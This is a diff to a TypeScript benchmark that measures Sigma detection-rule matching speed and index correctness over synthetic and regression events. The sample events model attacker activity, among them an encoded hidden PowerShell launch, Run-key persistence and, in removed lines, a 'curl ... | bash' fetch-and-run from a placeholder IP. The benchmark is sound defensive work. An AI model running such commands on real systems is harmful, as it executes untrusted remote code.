@@ -1,12 +1,19 @@
-// Evaluation benchmark: every rule of a corpus against one event at a time, through RuleSet's
-// prefilter index, compared with trying every rule. Uses ../shared/sigma-corpus when present (or
-// SIGMA_CORPUS_DIR), otherwise a generated corpus. Prints compile time, per-event median/p95 and how
-// many rules the prefilter tried; checks the index finds exactly what the full loop finds.
+// Evaluation benchmark: the whole rule corpus over raw events, one event at a time, as `huntforge
+// sigma test` and `sigma hunt` run it: rules compiled once and gated by logsource, candidates picked by
+// one literal scan per field value. Uses ../shared/sigma-corpus (or SIGMA_CORPUS_DIR) and, for events,
+// the raw Windows events of ../shared/external-suites/sigma-regression (evtx_dump JSON, read through
+// libs/telemetry) plus synthetic Sysmon, Security, PowerShell and CloudTrail events; a generated corpus
+// and the synthetic events only when those are absent. Prints compile time, rules tried per event,
+// events/s on one core, and checks the index finds exactly what trying every gated rule finds.
 import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
-import { compileRule, RuleCompileError, RuleSet, type CompiledRule, type SigmaEvent } from '@huntforge/sigma';
+import { addGatedRule, gateAllows, loadRuleDocuments, resolveSource, ruleGate, RuleCompileError, RuleSet, type CompiledRule } from '@huntforge/sigma';
+import { recognise, type TelemetryEvent } from '@huntforge/telemetry';
 
-const corpusDir = resolve(process.env.SIGMA_CORPUS_DIR ?? join(__dirname, '..', '..', '..', 'shared', 'sigma-corpus'));
+const shared = join(__dirname, '..', '..', '..', 'shared');
+const corpusDir = resolve(process.env.SIGMA_CORPUS_DIR ?? join(shared, 'sigma-corpus'));
+const regressionEvents = join(shared, 'external-suites', 'sigma-regression', 'events');
+const seconds = Number(process.env.BENCH_SECONDS ?? 3);
 
 function walk(dir: string, out: string[] = []): string[] {
   for (const entry of readdirSync(dir, { withFileTypes: true })) {
@@ -25,74 +32,86 @@ function generatedCorpus(count: number): string[] {
   );
 }
 
-const texts = existsSync(corpusDir) ? walk(corpusDir).map((path) => readFileSync(path, 'utf8')) : generatedCorpus(4000);
-const label = existsSync(corpusDir) ? `corpus ${corpusDir}` : 'generated corpus (4,000 rules)';
-
-const events: SigmaEvent[] = [
-  {
-    EventID: 1,
-    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-    OriginalFileName: 'PowerShell.EXE',
-    CommandLine: 'powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
-    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
-    ParentCommandLine: 'cmd.exe /c start.bat',
-    User: 'CORP\\alice',
-    IntegrityLevel: 'Medium',
-    CurrentDirectory: 'C:\\Users\\alice\\AppData\\Local\\Temp\\',
-  },
-  {
-    EventID: 1,
-    Image: 'C:\\Windows\\System32\\rundll32.exe',
-    OriginalFileName: 'RUNDLL32.EXE',
-    CommandLine: 'rundll32.exe C:\\ProgramData\\update.dll,DllRegisterServer',
-    ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
-  },
-  { EventID: 13, EventType: 'SetValue', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', Details: 'C:\\Users\\Public\\upd.exe', Image: 'C:\\Users\\Public\\upd.exe' },
-  { EventID: 22, QueryName: 'raw.githubusercontent.com', Image: 'C:\\Windows\\System32\\curl.exe', QueryResults: '185.199.108.133' },
-  { Image: '/usr/bin/curl', CommandLine: 'curl -s http://203.0.113.7/x.sh | bash', ParentImage: '/bin/bash', User: 'root' },
+const windows = (channel: string, eventId: number, data: Record<string, unknown>): Record<string, unknown> => ({
+  Event: { System: { Provider: { '#attributes': { Name: 'bench' } }, EventID: eventId, Channel: channel, Computer: 'ws1.corp.example', TimeCreated: { '#attributes': { SystemTime: '2025-01-01T00:00:00.000000Z' } } }, EventData: data },
+});
+const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
+const synthetic: Array<Record<string, unknown>> = [
+  windows(SYSMON, 1, { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', OriginalFileName: 'PowerShell.EXE', CommandLine: 'powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe /c start.bat', User: 'CORP\\alice', IntegrityLevel: 'Medium', CurrentDirectory: 'C:\\Users\\alice\\AppData\\Local\\Temp\\', Hashes: 'SHA256=0F0FD4B9DFD555E4A53AE9070447E330EAAF96FF51F012CD982157DEDFDDD9A6' }),
+  windows(SYSMON, 1, { Image: 'C:\\Windows\\System32\\rundll32.exe', OriginalFileName: 'RUNDLL32.EXE', CommandLine: 'rundll32.exe C:\\ProgramData\\update.dll,DllRegisterServer', ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' }),
+  windows(SYSMON, 13, { EventType: 'SetValue', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', Details: 'C:\\Users\\Public\\upd.exe', Image: 'C:\\Users\\Public\\upd.exe' }),
+  windows(SYSMON, 22, { QueryName: 'raw.githubusercontent.com', Image: 'C:\\Windows\\System32\\curl.exe', QueryResults: '185.199.108.133' }),
+  windows(SYSMON, 3, { Image: 'C:\\Windows\\System32\\svchost.exe', DestinationIp: '52.1.2.3', DestinationPort: 443, DestinationHostname: 'update.example.com', Initiated: 'true' }),
+  windows('Security', 4688, { NewProcessName: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', SubjectUserName: 'alice' }),
+  windows('Security', 4624, { LogonType: 3, TargetUserName: 'alice', IpAddress: '10.0.0.5', AuthenticationPackageName: 'NTLM', LogonProcessName: 'NtLmSsp' }),
+  windows('Microsoft-Windows-PowerShell/Operational', 4104, { ScriptBlockText: 'Get-ChildItem -Path C:\\Users -Recurse | Where-Object { $_.Length -gt 1MB }', Path: '' }),
+  { eventVersion: '1.08', eventTime: '2025-01-01T00:00:00Z', eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey', awsRegion: 'us-east-1', userIdentity: { type: 'IAMUser', userName: 'ci' }, requestParameters: { userName: 'ci' } },
 ];
+
+function regressionSamples(): Array<Record<string, unknown>> {
+  if (!existsSync(regressionEvents)) return [];
+  return readdirSync(regressionEvents)
+    .filter((name) => name.endsWith('.jsonl'))
+    .sort()
+    .flatMap((name) =>
+      readFileSync(join(regressionEvents, name), 'utf8')
+        .split('\n')
+        .filter((line) => line.trim() !== '')
+        .map((line) => JSON.parse(line) as Record<string, unknown>),
+    );
+}
+
+const haveCorpus = existsSync(corpusDir);
+const texts = haveCorpus ? walk(corpusDir).map((path) => readFileSync(path, 'utf8')) : generatedCorpus(4000);
+const records = [...regressionSamples(), ...synthetic];
 
 const started = performance.now();
 const set = new RuleSet<number>();
-const all: CompiledRule[] = [];
+const all: Array<{ rule: CompiledRule; index: number }> = [];
 let refused = 0;
 for (const text of texts) {
   try {
-    const rule = compileRule(text);
-    set.add(rule, all.length);
-    all.push(rule);
+    for (const doc of loadRuleDocuments(text)) {
+      if (!doc.detection) continue;
+      all.push({ rule: addGatedRule(set, doc, all.length), index: all.length });
+    }
   } catch (error) {
     if (!(error instanceof RuleCompileError)) throw error;
     refused++;
   }
 }
 const compileMs = performance.now() - started;
-const alwaysTried = all.filter((rule) => rule.triggers === null).length;
 
-function time(run: () => void, repeat: number): { median: number; p95: number } {
-  const samples: number[] = [];
-  for (let i = 0; i < repeat; i++) {
-    const t0 = performance.now();
-    run();
-    samples.push(performance.now() - t0);
-  }
-  samples.sort((a, b) => a - b);
-  const at = (p: number): number => samples[Math.min(samples.length - 1, Math.floor(p * samples.length))] ?? 0;
-  return { median: at(0.5), p95: at(0.95) };
-}
+const readStarted = performance.now();
+const events: TelemetryEvent[] = records.map((record) => recognise(record));
+const readMs = performance.now() - readStarted;
 
-console.log(`sigma-corpus-match: ${label}`);
-console.log(`  rules compiled ${all.length} (refused ${refused}) in ${compileMs.toFixed(0)} ms; ${alwaysTried} rules have no prefilter key (always tried)`);
+console.log(`sigma-corpus-match: ${haveCorpus ? `corpus ${corpusDir}` : 'generated corpus (4,000 rules)'}, ${events.length} raw events (${events.length - synthetic.length} from sigma-regression, ${synthetic.length} synthetic)`);
+console.log(`  rules compiled ${all.length} (refused ${refused}) in ${compileMs.toFixed(0)} ms; ${all.filter(({ rule }) => rule.triggers === null).length} rules have no prefilter key`);
+console.log(`  reading raw events into fields: ${((events.length / readMs) * 1000).toFixed(0)} events/s`);
+
+// Correctness: the index finds what trying every rule whose gate admits the event finds.
 let disagreements = 0;
-for (const [index, event] of events.entries()) {
-  const indexed = set.match(event).map((entry) => entry.meta);
-  const full = all.flatMap((rule, position) => (rule.matches(event) ? [position] : []));
-  if (indexed.join() !== full.join()) disagreements++;
-  const withIndex = time(() => set.match(event), 300);
-  const everyRule = time(() => all.forEach((rule) => rule.matches(event)), 60);
-  console.log(
-    `  event ${index}: ${full.length} rules fire; index tries ${set.candidateCount(event)} rules: median ${withIndex.median.toFixed(3)} ms, p95 ${withIndex.p95.toFixed(3)} ms` +
-      ` | every rule: median ${everyRule.median.toFixed(3)} ms, p95 ${everyRule.p95.toFixed(3)} ms`,
-  );
+const tried: number[] = [];
+for (const event of events) {
+  const view = event.source ? resolveSource(event.source) : null;
+  const indexed = [...new Set(set.match(event.fields, event.source).map((entry) => entry.meta))].sort((a, b) => a - b);
+  const full = all.filter(({ rule }) => gateAllows(ruleGate(rule.doc), view) && rule.matches(event.fields)).map(({ index }) => index);
+  if (indexed.join() !== full.join() && !(view?.variant)) disagreements++;
+  tried.push(set.candidateCount(event.fields, event.source));
 }
+tried.sort((a, b) => a - b);
+const mean = tried.reduce((sum, count) => sum + count, 0) / tried.length;
+console.log(`  rules tried per event: mean ${mean.toFixed(1)}, median ${tried[Math.floor(tried.length / 2)]}, p95 ${tried[Math.floor(tried.length * 0.95)]}, max ${tried[tried.length - 1]} (of ${set.size} compiled)`);
+
+// Throughput: every event in turn, for a few seconds after a warm-up pass.
+for (const event of events) set.match(event.fields, event.source);
+let processed = 0;
+const t0 = performance.now();
+while (performance.now() - t0 < seconds * 1000) {
+  for (const event of events) set.match(event.fields, event.source);
+  processed += events.length;
+}
+const elapsed = (performance.now() - t0) / 1000;
 console.log(`  events where the index and the full loop disagree: ${disagreements}`);
+console.log(`  throughput: ${(processed / elapsed).toFixed(0)} events/s on one core (${processed} events in ${elapsed.toFixed(1)} s; target >= 20,000)`);
